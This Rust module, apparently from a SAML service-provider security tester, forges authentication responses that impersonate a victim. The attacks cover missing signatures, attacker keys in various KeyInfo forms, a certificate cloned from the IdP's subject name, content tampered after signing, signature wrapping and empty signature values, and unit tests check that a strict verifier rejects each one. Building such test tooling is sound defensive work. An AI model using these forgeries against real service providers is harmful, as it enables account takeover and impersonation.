//! Signature attacks: no signature, a key the SP must not trust (offered in each KeyInfo
//! form an SP might be tempted to use), genuine signatures over changed content, a genuine
//! signature of another element, and empty signature values.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use openssl::bn::BigNumContext;
use openssl::ec::PointConversionForm;
use openssl::pkey::{PKey, Private};
use openssl::x509::X509;

use super::kit::{
    self, after_issuer_and_signature, assertion_index, assertion_mut, attacker_genuine,
    child_index, child_mut, digest_value_path, find_child_mut, forged_doc, insert_after_issuer,
    name_id_mut, remove_child, signed_mode, take_signature, victim,
};
use super::{Attack, AttackError, Forged, KeyInfoForm, Scenario};
use crate::saml::dsig::{DSIG_NS, SAML_ASSERTION_NS, SignOptions, SignatureAlgorithm};
use crate::saml::idp::SAMLP_NS;
use crate::saml::response::{self, ATTRNAME_FORMAT_BASIC, SignMode};
use crate::saml::xml::{Document, Element, Node, NodePath};

/// XML-DSig 1.1 namespace (`DEREncodedKeyValue`, `ECKeyValue`).
pub(super) const DSIG11_NS: &str = "http://www.w3.org/2009/xmldsig11#";
/// `NamedCurve/@URI` of P-256 (XML-DSig 1.1 §4.5.2.3.1 names curves by OID URN).
const P256_URN: &str = "urn:oid:1.2.840.10045.3.1.7";

pub(super) fn forge(attack: Attack, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    match attack {
        Attack::Unsigned => unsigned(s),
        Attack::WrongKey => wrong_key(s),
        Attack::KeyInfo(form) => key_info(s, form),
        Attack::TamperedNameId => tampered_name_id(s),
        Attack::TamperedAttributes => tampered_attributes(s),
        Attack::ReferenceUriMismatch => reference_uri_mismatch(s),
        Attack::EmptySignatureValue => empty_signature_value(s),
        other => Err(AttackError::Unsupported(format!(
            "{other} is not a signature attack"
        ))),
    }
}

fn ds(local: &str) -> Element {
    Element::new_ns("ds", DSIG_NS, local)
}

fn dsig11(local: &str) -> Element {
    Element::new_ns("dsig11", DSIG11_NS, local)
}

/// The victim's Response exactly as the SP expects it, with no signature at all.
fn unsigned(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = response::build(&s.base);
    forged_doc(
        &mut doc,
        s,
        None,
        "the victim's Response with no ds:Signature on the Response or the Assertion".into(),
    )
}

/// Which attacker key signs: EC when `ec`, else RSA; with the algorithm for it (the base's
/// when it fits the key, so the forgery looks like what the IdP sends).
fn attacker_key<'a>(
    s: &'a Scenario<'_>,
    ec: bool,
) -> (&'a PKey<Private>, &'a X509, SignatureAlgorithm) {
    if ec {
        (
            &s.attacker.ec_key,
            &s.attacker.ec_cert,
            SignatureAlgorithm::EcdsaSha256,
        )
    } else {
        let alg = match s.base.alg {
            SignatureAlgorithm::EcdsaSha256 => SignatureAlgorithm::RsaSha256,
            rsa => rsa,
        };
        (&s.attacker.rsa_key, &s.attacker.rsa_cert, alg)
    }
}

/// True if the IdP signs with EC (so the attacker's look-alike key is EC too).
fn idp_is_ec(s: &Scenario<'_>) -> bool {
    s.base.alg == SignatureAlgorithm::EcdsaSha256
}

/// Signs `doc` per the SP's sign mode with an attacker key and no KeyInfo, then hands each
/// new signature to `after` (before a Response signature covers it).
fn sign_as_attacker(
    doc: &mut Document,
    s: &Scenario<'_>,
    ec: bool,
    after: &mut dyn FnMut(&mut Document, &NodePath) -> Result<(), AttackError>,
) -> Result<(), AttackError> {
    let (key, cert, alg) = attacker_key(s, ec);
    let opts = SignOptions {
        alg,
        digest: response::digest_for(alg),
        include_cert: false,
        ..SignOptions::default()
    };
    kit::sign_levels(doc, signed_mode(s.base.sign), key, cert, &opts, after)
}

/// The victim's Response signed by the attacker's key, no KeyInfo: the SP has nothing but
/// its configured certificate to verify with. (KeyInfo variants are the `keyinfo-*` attacks;
/// leaving it out here keeps this one distinct from `keyinfo-x509-certificate`.)
/// The forger's classic: a self-signed certificate cloned from the IdP's (same subject and
/// issuer DN, validity), shipped in KeyInfo. Only a name comparison makes it pass.
fn wrong_key(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let ec = idp_is_ec(s);
    let (_, cert, _) = attacker_key(s, ec);
    let info = ds("KeyInfo").with_child(x509_data(&[cert])?);
    let mut doc = response::build(&s.base);
    sign_as_attacker(&mut doc, s, ec, &mut |doc, path| {
        append_to(doc, path, info.clone())
    })?;
    forged_doc(
        &mut doc,
        s,
        None,
        "the victim's Response signed by the attacker's key, KeyInfo carrying the attacker's certificate cloned from the IdP's (same subject DN)".into(),
    )
}

/// The victim's Response signed by the attacker's key, offered in KeyInfo as `form`.
fn key_info(s: &Scenario<'_>, form: KeyInfoForm) -> Result<Forged, AttackError> {
    let ec = match form {
        KeyInfoForm::RsaKeyValue => false,
        KeyInfoForm::EcKeyValue => true,
        _ => idp_is_ec(s),
    };
    let info = key_info_element(s, form, ec)?;
    let mut doc = response::build(&s.base);
    sign_as_attacker(&mut doc, s, ec, &mut |doc, path| {
        append_to(doc, path, info.clone())
    })?;
    forged_doc(
        &mut doc,
        s,
        None,
        format!(
            "the victim's Response signed by the attacker's {} key, KeyInfo offering it as {}",
            if ec { "EC" } else { "RSA" },
            key_info_text(form)
        ),
    )
}

fn key_info_text(form: KeyInfoForm) -> &'static str {
    match form {
        KeyInfoForm::X509Certificate => "X509Certificate (self-signed, the attacker's own name)",
        KeyInfoForm::X509CertificateAfterGenuine => {
            "X509Data with the IdP's certificate first and the attacker's second"
        }
        KeyInfoForm::RsaKeyValue => "KeyValue/RSAKeyValue (Modulus, Exponent)",
        KeyInfoForm::DerEncodedKeyValue => "dsig11:DEREncodedKeyValue (SubjectPublicKeyInfo)",
        KeyInfoForm::EcKeyValue => "KeyValue/dsig11:ECKeyValue (P-256, ECDSA-SHA256)",
    }
}

/// Appends `child` to the element at `path` (a signature: KeyInfo goes last, after
/// SignatureValue, outside what SignatureValue signs).
fn append_to(doc: &mut Document, path: &NodePath, child: Element) -> Result<(), AttackError> {
    doc.get_mut(path)
        .ok_or_else(|| kit::inconsistent("signature just made"))?
        .append_child(child);
    // The dsig11 prefix is new to the document.
    doc.fixup_namespaces()?;
    Ok(())
}

fn b64_cert(cert: &X509) -> Result<String, AttackError> {
    Ok(B64.encode(cert.to_der()?))
}

fn x509_data(certs: &[&X509]) -> Result<Element, AttackError> {
    let mut data = ds("X509Data");
    for c in certs {
        data.append_child(ds("X509Certificate").with_text(&b64_cert(c)?));
    }
    Ok(data)
}

/// `ds:KeyInfo` offering the attacker key that signs (`ec` picks which one) in `form`.
fn key_info_element(s: &Scenario<'_>, form: KeyInfoForm, ec: bool) -> Result<Element, AttackError> {
    let (key, cert, _) = attacker_key(s, ec);
    let content = match form {
        KeyInfoForm::X509Certificate => {
            // A certificate under the attacker's own name: what a verifier that takes the
            // key from KeyInfo accepts without any name games (see `wrong_key` for those).
            let now = openssl::asn1::Asn1Time::days_from_now(0)?;
            let later = openssl::asn1::Asn1Time::days_from_now(1)?;
            let own =
                crate::saml::idp::self_signed_cert_between(key, "oinspect attacker", &now, &later)?;
            x509_data(&[&own])?
        }
        KeyInfoForm::X509CertificateAfterGenuine => x509_data(&[&s.idp.cert, cert])?,
        KeyInfoForm::RsaKeyValue => {
            let rsa = s.attacker.rsa_key.rsa()?;
            ds("KeyValue").with_child(
                ds("RSAKeyValue")
                    .with_child(ds("Modulus").with_text(&B64.encode(rsa.n().to_vec())))
                    .with_child(ds("Exponent").with_text(&B64.encode(rsa.e().to_vec()))),
            )
        }
        KeyInfoForm::DerEncodedKeyValue => {
            dsig11("DEREncodedKeyValue").with_text(&B64.encode(key.public_key_to_der()?))
        }
        KeyInfoForm::EcKeyValue => {
            let ec_key = s.attacker.ec_key.ec_key()?;
            let mut ctx = BigNumContext::new()?;
            let point = ec_key.public_key().to_bytes(
                ec_key.group(),
                PointConversionForm::UNCOMPRESSED,
                &mut ctx,
            )?;
            ds("KeyValue").with_child(
                dsig11("ECKeyValue")
                    .with_child(dsig11("NamedCurve").with_attr("URI", P256_URN))
                    .with_child(dsig11("PublicKey").with_text(&B64.encode(point))),
            )
        }
    };
    Ok(ds("KeyInfo").with_child(content))
}

/// The attacker's genuinely signed Response with only the NameID changed to the victim
/// after signing (the email attribute still names the attacker).
fn tampered_name_id(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, signed_mode(s.base.sign))?;
    kit::set_text(name_id_mut(assertion_mut(&mut doc)?)?, victim(s));
    forged_doc(
        &mut doc,
        s,
        None,
        format!(
            "the attacker's genuinely signed Response ({}) with the NameID changed to the victim after signing",
            s.attacker_identity
        ),
    )
}

/// The attacker's genuinely signed Response with every attribute value that names the
/// attacker (the email attribute) changed to the victim after signing, NameID untouched;
/// with no such attribute an `email` attribute naming the victim is added. An SP that does
/// not check digests and keys accounts on the email attribute logs in the victim.
fn tampered_attributes(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let mut doc = attacker_genuine(s, signed_mode(s.base.sign))?;
    let assertion = assertion_mut(&mut doc)?;
    let changed = match child_index(assertion, SAML_ASSERTION_NS, "AttributeStatement") {
        Some(i) => kit::retarget(child_mut(assertion, i)?, &s.attacker_identity, victim(s)),
        None => 0,
    };
    let what = if changed > 0 {
        format!("{changed} attribute value(s) naming the attacker changed to the victim")
    } else {
        add_email_attribute(assertion, victim(s))?;
        "an email attribute naming the victim added".to_string()
    };
    forged_doc(
        &mut doc,
        s,
        None,
        format!(
            "the attacker's genuinely signed Response ({}), {what} after signing; NameID unchanged",
            s.attacker_identity
        ),
    )
}

/// Appends `email` = `value` to the AttributeStatement (made if missing, last in the
/// Assertion, where the schema puts statements).
fn add_email_attribute(assertion: &mut Element, value: &str) -> Result<(), AttackError> {
    if child_index(assertion, SAML_ASSERTION_NS, "AttributeStatement").is_none() {
        assertion.append_child(Element::new_ns(
            "saml",
            SAML_ASSERTION_NS,
            "AttributeStatement",
        ));
    }
    find_child_mut(assertion, SAML_ASSERTION_NS, "AttributeStatement")?.append_child(
        Element::new_ns("saml", SAML_ASSERTION_NS, "Attribute")
            .with_attr("Name", "email")
            .with_attr("NameFormat", ATTRNAME_FORMAT_BASIC)
            .with_child(
                Element::new_ns("saml", SAML_ASSERTION_NS, "AttributeValue").with_text(value),
            ),
    );
    Ok(())
}

/// The victim's element carries the genuine signature of the attacker's one, which rides
/// along unsigned-looking (its signature cut out: the enveloped transform digests it the
/// same way) inside the victim's element: in `saml:Advice` for an Assertion, in
/// `samlp:Extensions` when the SP expects a signed Response.
fn reference_uri_mismatch(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let response_level = s.base.sign == SignMode::Response;
    let level = if response_level {
        SignMode::Response
    } else {
        SignMode::Assertion
    };
    let mut donor_doc = attacker_genuine(s, level)?;
    let mut doc = response::build(&s.base);
    let (mut donor, host) = if response_level {
        (donor_doc.root, &mut doc.root)
    } else {
        let i = assertion_index(&donor_doc.root)?;
        (
            remove_child(&mut donor_doc.root, i)?,
            assertion_mut(&mut doc)?,
        )
    };
    let sig = take_signature(&mut donor)
        .ok_or_else(|| kit::inconsistent("the genuine element is not signed"))?;
    insert_after_issuer(host, sig);
    let where_ = if response_level {
        let at = after_issuer_and_signature(host);
        let ext = Element::new_ns("samlp", SAMLP_NS, "Extensions").with_child(donor);
        host.insert_child(at, Node::Element(ext));
        "samlp:Extensions of the victim's Response"
    } else {
        // Advice follows Conditions (SAML core §2.3.3).
        let at = child_index(host, SAML_ASSERTION_NS, "Conditions")
            .map(|i| i + 1)
            .unwrap_or(host.children.len());
        let advice = Element::new_ns("saml", SAML_ASSERTION_NS, "Advice").with_child(donor);
        host.insert_child(at, Node::Element(advice));
        "saml:Advice of the victim's Assertion"
    };
    forged_doc(
        &mut doc,
        s,
        Some(s.attacker_identity.clone()),
        format!(
            "the victim's {} carries the genuine signature of the attacker's, whose Reference points at the attacker's element, placed in the {where_}",
            if response_level {
                "Response"
            } else {
                "Assertion"
            }
        ),
    )
}

/// The victim's Response with signatures (per the SP's sign mode) whose DigestValue and
/// SignatureValue are empty, KeyInfo showing the IdP's certificate.
fn empty_signature_value(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let idp_cert = x509_data(&[&s.idp.cert])?;
    let mut doc = response::build(&s.base);
    sign_as_attacker(&mut doc, s, idp_is_ec(s), &mut |doc, path| {
        let dv = digest_value_path(doc, path)?;
        let sig = doc
            .get_mut(path)
            .ok_or_else(|| kit::inconsistent("signature just made"))?;
        find_child_mut(sig, DSIG_NS, "SignatureValue")?
            .children
            .clear();
        sig.append_child(ds("KeyInfo").with_child(idp_cert.clone()));
        doc.get_mut(&dv)
            .ok_or_else(|| kit::inconsistent("DigestValue"))?
            .children
            .clear();
        Ok(())
    })?;
    forged_doc(
        &mut doc,
        s,
        None,
        "the victim's Response with a ds:Signature whose DigestValue and SignatureValue are empty (KeyInfo: the IdP's certificate)".into(),
    )
}

#[cfg(test)]
mod tests {
    use openssl::bn::BigNum;

    use super::super::kit::testing::*;
    use super::*;
    use crate::saml::dsig::{DsigError, signature_paths};

    fn run(attack: Attack, s: &Scenario<'_>) -> (Forged, Document) {
        let f = forge(attack, s).unwrap();
        let doc = parse(&f.xml);
        assert_eq!(f.claimed, VICTIM);
        assert!(!f.description.contains('\n'));
        (f, doc)
    }

    #[test]
    fn unsigned_has_no_signature_and_names_the_victim() {
        let (f, doc) = run(Attack::Unsigned, &scenario(SignMode::Both));
        assert!(signature_paths(&doc).is_empty());
        assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
        assert_eq!(f.genuine, None);
    }

    #[test]
    fn wrong_key_verifies_only_with_the_attacker_key() {
        for (s, cert) in [
            (scenario(SignMode::Both), &rsa_attacker().rsa_cert),
            (ec_scenario(SignMode::Assertion), &ec_attacker().ec_cert),
        ] {
            let (_, doc) = run(Attack::WrongKey, &s);
            let sigs = signature_paths(&doc);
            assert_eq!(
                sigs.len(),
                if s.base.sign == SignMode::Both { 2 } else { 1 }
            );
            for p in &sigs {
                // The cloned certificate travels in KeyInfo, with the IdP's subject name.
                let info = key_info_of(&doc, p);
                assert_eq!(certs_in(&info), [cert.to_der().unwrap()]);
                assert_eq!(
                    cert.subject_name().to_der().unwrap(),
                    s.idp.cert.subject_name().to_der().unwrap()
                );
                assert!(matches!(
                    strict(&doc, p, &s.idp.cert),
                    Err(DsigError::UntrustedKey { .. } | DsigError::SignatureInvalid { .. })
                ));
                strict(&doc, p, cert).unwrap();
            }
            assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
        }
    }

    #[test]
    fn attacker_certificate_copies_the_idp_subject() {
        let s = scenario(SignMode::Assertion);
        for c in [&s.attacker.rsa_cert, &s.attacker.ec_cert] {
            assert_eq!(
                c.subject_name().to_der().unwrap(),
                s.idp.cert.subject_name().to_der().unwrap()
            );
            assert_eq!(
                c.issuer_name().to_der().unwrap(),
                s.idp.cert.subject_name().to_der().unwrap()
            );
            assert_ne!(c.to_der().unwrap(), s.idp.cert.to_der().unwrap());
        }
    }

    fn key_info_of(doc: &Document, sig: &NodePath) -> Element {
        doc.get(sig)
            .unwrap()
            .find_child(DSIG_NS, "KeyInfo")
            .expect("KeyInfo")
            .clone()
    }

    fn certs_in(info: &Element) -> Vec<Vec<u8>> {
        info.find_child(DSIG_NS, "X509Data")
            .unwrap()
            .find_children(DSIG_NS, "X509Certificate")
            .map(|c| decode(&c.text()).unwrap())
            .collect()
    }

    #[test]
    fn key_info_forms_offer_the_attacker_key() {
        let s = scenario(SignMode::Assertion);
        let a = s.attacker;
        for form in KeyInfoForm::ALL {
            let (_, doc) = run(Attack::KeyInfo(form), &s);
            let sigs = signature_paths(&doc);
            assert_eq!(sigs.len(), 1, "{form:?}");
            let sig = &sigs[0];
            let signer = if form == KeyInfoForm::EcKeyValue {
                &a.ec_cert
            } else {
                &a.rsa_cert
            };
            assert!(strict(&doc, sig, &s.idp.cert).is_err(), "{form:?}");
            strict(&doc, sig, signer).unwrap();
            let info = key_info_of(&doc, sig);
            match form {
                KeyInfoForm::X509Certificate => {
                    let certs = certs_in(&info);
                    assert_eq!(certs.len(), 1);
                    let own = X509::from_der(&certs[0]).unwrap();
                    assert!(own.public_key().unwrap().public_eq(&a.rsa_key));
                    assert_ne!(
                        own.subject_name().to_der().unwrap(),
                        s.idp.cert.subject_name().to_der().unwrap()
                    );
                    // Our verifier recognises the substitution.
                    assert!(matches!(
                        strict(&doc, sig, &s.idp.cert),
                        Err(DsigError::UntrustedKey { .. })
                    ));
                }
                KeyInfoForm::X509CertificateAfterGenuine => assert_eq!(
                    certs_in(&info),
                    [s.idp.cert.to_der().unwrap(), a.rsa_cert.to_der().unwrap()]
                ),
                KeyInfoForm::RsaKeyValue => {
                    let rkv = info
                        .find_child(DSIG_NS, "KeyValue")
                        .and_then(|k| k.find_child(DSIG_NS, "RSAKeyValue"))
                        .unwrap();
                    let n = decode(&rkv.find_child(DSIG_NS, "Modulus").unwrap().text()).unwrap();
                    let e = decode(&rkv.find_child(DSIG_NS, "Exponent").unwrap().text()).unwrap();
                    let rsa = a.rsa_key.rsa().unwrap();
                    assert_eq!(BigNum::from_slice(&n).unwrap(), *rsa.n());
                    assert_eq!(BigNum::from_slice(&e).unwrap(), *rsa.e());
                }
                KeyInfoForm::DerEncodedKeyValue => {
                    let der = info.find_child(DSIG11_NS, "DEREncodedKeyValue").unwrap();
                    assert_eq!(
                        decode(&der.text()).unwrap(),
                        a.rsa_key.public_key_to_der().unwrap()
                    );
                }
                KeyInfoForm::EcKeyValue => {
                    let eckv = info
                        .find_child(DSIG_NS, "KeyValue")
                        .and_then(|k| k.find_child(DSIG11_NS, "ECKeyValue"))
                        .unwrap();
                    assert_eq!(
                        eckv.find_child(DSIG11_NS, "NamedCurve")
                            .unwrap()
                            .attr("URI"),
                        Some(P256_URN)
                    );
                    let point =
                        decode(&eckv.find_child(DSIG11_NS, "PublicKey").unwrap().text()).unwrap();
                    let ec = a.ec_key.ec_key().unwrap();
                    let mut ctx = BigNumContext::new().unwrap();
                    let expected = ec
                        .public_key()
                        .to_bytes(ec.group(), PointConversionForm::UNCOMPRESSED, &mut ctx)
                        .unwrap();
                    assert_eq!(point, expected);
                    assert_eq!(point.len(), 65);
                }
            }
        }
    }

    #[test]
    fn key_info_with_both_signatures_keeps_the_response_digest_valid() {
        let s = scenario(SignMode::Both);
        let (_, doc) = run(Attack::KeyInfo(KeyInfoForm::DerEncodedKeyValue), &s);
        for sig in signature_paths(&doc) {
            strict(&doc, &sig, &s.attacker.rsa_cert).unwrap();
        }
    }

    #[test]
    fn tampered_name_id_breaks_the_digest_only() {
        for mode in [SignMode::Assertion, SignMode::Both] {
            let s = scenario(mode);
            let (f, doc) = run(Attack::TamperedNameId, &s);
            assert_eq!(f.genuine, None);
            let a = consumed(&doc);
            assert_eq!(name_id(&doc, &a), VICTIM);
            assert!(f.xml.contains(ATTACKER), "the email attribute is untouched");
            let sig = sig_of(&doc, &a);
            assert!(matches!(
                strict(&doc, &sig, &s.idp.cert),
                Err(DsigError::DigestMismatch { .. })
            ));
            // What the IdP signed (SignedInfo) is intact: only the digest gives it away.
            signed_info_verifies(&doc, &sig, &s.idp.cert).unwrap();
        }
    }

    fn email(doc: &Document) -> Vec<String> {
        doc.get(&consumed(doc))
            .unwrap()
            .find_child(SAML_ASSERTION_NS, "AttributeStatement")
            .unwrap()
            .find_children(SAML_ASSERTION_NS, "Attribute")
            .filter(|a| a.attr("Name") == Some("email"))
            .flat_map(|a| a.find_children(SAML_ASSERTION_NS, "AttributeValue"))
            .map(Element::text)
            .collect()
    }

    #[test]
    fn tampered_attributes_changes_the_email_not_the_name_id() {
        let s = scenario(SignMode::Assertion);
        let (_, doc) = run(Attack::TamperedAttributes, &s);
        let a = consumed(&doc);
        assert_eq!(name_id(&doc, &a), ATTACKER);
        assert_eq!(email(&doc), [VICTIM]);
        let sig = sig_of(&doc, &a);
        assert!(matches!(
            strict(&doc, &sig, &s.idp.cert),
            Err(DsigError::DigestMismatch { .. })
        ));
        signed_info_verifies(&doc, &sig, &s.idp.cert).unwrap();

        // No attribute names the user: one is added.
        let mut s = scenario(SignMode::Assertion);
        s.base.attributes.clear();
        let (f, doc) = run(Attack::TamperedAttributes, &s);
        assert_eq!(email(&doc), [VICTIM]);
        assert!(f.description.contains("added"));
        assert!(strict(&doc, &sig_of(&doc, &consumed(&doc)), &s.idp.cert).is_err());
    }

    #[test]
    fn reference_uri_mismatch_resolves_to_the_attacker_element() {
        for mode in [SignMode::Assertion, SignMode::Response] {
            let s = scenario(mode);
            let (f, doc) = run(Attack::ReferenceUriMismatch, &s);
            assert_eq!(f.genuine.as_deref(), Some(ATTACKER));
            let host = if mode == SignMode::Response {
                NodePath::default()
            } else {
                consumed(&doc)
            };
            assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
            let sigs = signature_paths(&doc);
            assert_eq!(sigs, [sig_of(&doc, &host)], "{mode:?}");
            let sig = &sigs[0];
            assert!(matches!(
                strict(&doc, sig, &s.idp.cert),
                Err(DsigError::ReferenceNotParent { .. })
            ));
            // A verifier that resolves the Reference anywhere accepts it, for the attacker's
            // element, while the consumer reads the victim's.
            let signed = lax(&doc, sig, &s.idp.cert, Resolve::First).unwrap();
            assert_ne!(signed, host);
            let signed_el = doc.get(&signed).unwrap();
            let nid = if mode == SignMode::Response {
                name_id(&doc, &signed.child(assertion_index(signed_el).unwrap()))
            } else {
                name_id(&doc, &signed)
            };
            assert_eq!(nid, ATTACKER);
        }
    }

    #[test]
    fn empty_signature_value_has_empty_values() {
        let s = scenario(SignMode::Both);
        let (_, doc) = run(Attack::EmptySignatureValue, &s);
        let sigs = signature_paths(&doc);
        assert_eq!(sigs.len(), 2);
        for sig in &sigs {
            let el = doc.get(sig).unwrap();
            assert!(
                el.find_child(DSIG_NS, "SignatureValue")
                    .unwrap()
                    .children
                    .is_empty()
            );
            let dv = doc.get(&digest_value_path(&doc, sig).unwrap()).unwrap();
            assert!(dv.children.is_empty());
            assert_eq!(
                certs_in(&key_info_of(&doc, sig)),
                [s.idp.cert.to_der().unwrap()]
            );
            assert!(strict(&doc, sig, &s.idp.cert).is_err());
        }
        assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
    }

    #[test]
    fn other_attacks_are_refused() {
        assert!(matches!(
            forge(Attack::Dtd, &scenario(SignMode::Assertion)),
            Err(AttackError::Unsupported(_))
        ));
    }
}
